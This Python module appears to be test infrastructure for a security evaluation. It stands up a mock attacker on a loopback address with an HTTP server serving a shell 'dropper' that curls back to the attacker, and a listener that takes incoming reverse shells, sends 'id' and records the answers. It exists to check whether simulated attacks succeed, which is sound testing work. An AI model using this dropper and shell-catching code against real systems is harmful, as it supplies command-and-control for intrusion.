"""The other side: a server with a dropper to fetch and a port where stolen shells report.

Everything it gets is counted: that an attack worked is what the attacker saw, not what the defender claims.
"""

import http.server
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

LOOPBACK = "127.0.0.66"
"""Where the attacker lives when the task shares our network."""
SHELL_SECONDS = 3


@dataclass
class Attacker:
    """What the attacker has got so far."""

    address: str
    web_port: int = 0
    shell_port: int = 0
    fetched: list[str] = field(default_factory=list)
    """Paths asked of the attacker's web server."""
    shell_answers: list[str] = field(default_factory=list)
    """What stolen shells answered to `id`."""

    def forget(self) -> None:
        """Start counting anew."""
        self.fetched.clear()
        self.shell_answers.clear()


@contextmanager
def listening(address: str = LOOPBACK) -> Iterator[Attacker]:
    """Open both ports at `address`; they close with the block."""
    attacker = Attacker(address)
    web = http.server.ThreadingHTTPServer((address, 0), _handler(attacker))
    attacker.web_port = web.server_address[1]
    shells = socket.create_server((address, 0))
    attacker.shell_port = shells.getsockname()[1]
    threading.Thread(target=web.serve_forever, daemon=True).start()
    threading.Thread(target=_take_shells, args=(shells, attacker), daemon=True).start()
    try:
        yield attacker
    finally:
        web.shutdown()
        web.server_close()
        shells.close()


def _handler(attacker: Attacker) -> type[http.server.BaseHTTPRequestHandler]:
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            attacker.fetched.append(self.path)
            body = b"thanks\n"
            if self.path == "/dropper":
                host = f"{attacker.address}:{attacker.web_port}"
                body = f"#!/bin/sh\nexec curl -s http://{host}/running\n".encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    return Handler


def _take_shells(shells: socket.socket, attacker: Attacker) -> None:
    while True:
        try:
            shell, _ = shells.accept()
        except OSError:
            return
        with shell:
            shell.settimeout(SHELL_SECONDS)
            try:
                shell.sendall(b"id\nexit\n")
                attacker.shell_answers.append(_until_uid(shell))
            except OSError:
                attacker.shell_answers.append("")


def _until_uid(shell: socket.socket) -> str:
    """Read until the shell has said who it is, or has nothing more to say."""
    said = b""
    while b"uid=" not in said and (chunk := shell.recv(4096)):
        said += chunk
    return said.decode(errors="replace")
